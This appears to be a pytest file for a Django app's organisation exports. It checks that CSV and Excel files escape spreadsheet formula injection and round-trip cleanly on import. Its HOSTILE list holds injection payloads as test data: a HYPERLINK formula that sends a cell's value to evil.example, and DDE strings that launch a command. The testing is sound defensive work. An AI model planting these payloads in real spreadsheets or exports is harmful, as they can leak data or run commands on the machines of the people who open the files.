"""Exports a person opens in a spreadsheet never carry a live formula, and import back unchanged.

Mallory names units under Hà Nam so that a spreadsheet would run them (``=HYPERLINK(…)``,
``=cmd|' /C calc'!A0``, ``+…``, ``-…``, ``@…``, a leading tab). Alice exports Hà Nam: the CSV
marks those texts with a leading ``'``, the Excel files hold them as text cells, and importing
Alice's CSV or Excel file again changes nothing.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from daihoi.web.core.spreadsheet import csv_text, unquote
from daihoi.web.orgs.importer import plan_import
from daihoi.web.orgs.models import Organisation
from tests.web.season.conftest import dave, empty_cache, scenario

__all__ = ["dave", "empty_cache", "scenario"]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+84 Chi bộ số một",
    "-2+3 Đảng bộ",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=looks marked already",
]


@pytest.fixture
def hostile_names(tree) -> dict[str, str]:
    orgs = [
        tree.phu_ly,
        tree.minh_khai,
        tree.minh_khai_cell,
        tree.duy_tien,
        tree.hoa_mac,
        tree.bien_hoa_school,
    ]
    names = {}
    for org, name in zip(orgs, HOSTILE, strict=True):
        org.name = name
        org.kind = name[:1] + "Loại"
        org.save()
        names[org.code] = name
    return names


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_csv_text_marks_only_what_a_spreadsheet_would_run() -> None:
    for text in [*HOSTILE, "\t=1", "\r=1"]:
        assert csv_text(text) == "'" + text
        assert unquote(csv_text(text)) == text
    assert csv_text("Đảng bộ tỉnh Hà Nam") == "Đảng bộ tỉnh Hà Nam"
    assert csv_text(-5) == -5  # numbers stay numbers
    assert unquote("'Quote kept: not formula-like") == "'Quote kept: not formula-like"
    assert unquote(csv_text("'=already marked")) == "'=already marked"


def test_alices_csv_export_runs_no_formula(tree, alice, client_of, hostile_names):
    rows = csv_rows(client_of(alice).get(reverse("orgs:export_csv", args=[tree.ha_nam.pk])))
    by_code = {r[0]: r for r in rows[1:]}
    for code, name in hostile_names.items():
        assert by_code[code][1] == "'" + name
        assert by_code[code][4].startswith("'")
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert by_code["HNA-PL"][5] == "9800"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_file_imported_again_gives_back_the_same_names(
    tree, alice, client_of, hostile_names, fmt
):
    response = client_of(alice).get(reverse(f"orgs:export_{fmt}", args=[tree.ha_nam.pk]))
    data = b"".join(response.streaming_content) if fmt == "csv" else response.content
    plan = plan_import(alice, f"ha-nam.{fmt}", data)
    assert plan.ok, plan.problems
    assert plan.updates == []
    assert plan.unchanged == Organisation.objects.get(code="HNA").subtree().count()
    for code, name in hostile_names.items():
        assert Organisation.objects.get(code=code).name == name


def test_alices_excel_export_holds_the_names_as_text(tree, alice, client_of, hostile_names):
    response = client_of(alice).get(reverse("orgs:export_xlsx", args=[tree.ha_nam.pk]))
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    sheet = load_workbook(io.BytesIO(response.content)).active
    names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for code, name in hostile_names.items():
        assert names[code].value == name
        assert names[code].data_type == "s"


def test_the_dashboard_workbook_runs_no_formula_and_keeps_numbers(scenario, tree, alice, client_of):
    tree.hoa_mac.name = '=HYPERLINK("http://evil.example","Hòa Mạc")'
    tree.hoa_mac.save()
    tree.ha_nam.name = "=1+1 Hà Nam"
    tree.ha_nam.save()
    response = client_of(alice).get(reverse("dashboard:export", args=[tree.ha_nam.pk]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    values, numbers = [], 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
                numbers += isinstance(cell.value, int | float)
    assert '=HYPERLINK("http://evil.example","Hòa Mạc")' in values
    assert any(isinstance(v, str) and v.startswith("=1+1 Hà Nam — ") for v in values)
    assert numbers > 0
